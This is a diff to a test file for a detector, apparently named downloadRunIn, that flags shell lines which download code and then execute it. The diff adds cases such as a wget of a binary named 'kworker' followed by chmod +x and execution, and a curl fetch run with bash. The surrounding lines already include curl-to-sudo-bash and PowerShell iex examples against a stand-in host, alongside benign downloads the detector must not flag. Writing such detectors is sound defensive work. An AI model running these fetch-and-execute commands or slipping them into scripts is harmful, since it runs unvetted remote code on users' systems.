@@ -22,6 +22,8 @@ describe("downloadRunIn", () => {
     expect(downloadRunIn("wget -q -O install.sh https://x.example/i && sh install.sh --yes")).toBe("a download saved, then run or made executable");
     expect(downloadRunIn("curl -o /tmp/p.py https://x.example/p; python3 /tmp/p.py")).toBe("a download saved, then run or made executable");
     expect(downloadRunIn("curl https://x.example/i.sh > /tmp/x.sh && sh /tmp/x.sh")).toBe("a download saved, then run or made executable");
+    expect(downloadRunIn("wget -q https://x.example/kworker && chmod +x kworker && ./kworker")).toBe("a download saved, then run or made executable");
+    expect(downloadRunIn("curl -sSLO https://x.example/dist/setup.sh && bash setup.sh")).toBe("a download saved, then run or made executable");
     expect(downloadRunIn("curl -s https://x.example/i | sudo -E bash -s -- --quiet 2>&1")).toBe("a download piped into a shell");
     expect(downloadRunIn("iex (iwr -UseBasicParsing https://x.example/a)")).toBe("PowerShell running a downloaded string");
     expect(downloadRunIn("(New-Object Net.WebClient).DownloadString('https://x.example/a') | iex")).toBe("PowerShell running a downloaded string");
@@ -43,6 +45,8 @@ describe("downloadRunIn", () => {
       "curl -fsS http://localhost:3000/health || sh ./scripts/restart.sh",
       "node scripts/fetch.js | node scripts/summarize.js",
       "git fetch --dry-run 2>&1 | node ./bin/parse-refs.js",
+      "wget -q https://x.example/data.csv && wc -l data.csv",
+      "curl -sSLO https://x.example/app.tar.gz && tar xzf app.tar.gz",
     ]) {
       expect(downloadRunIn(line), line).toBeUndefined();
     }
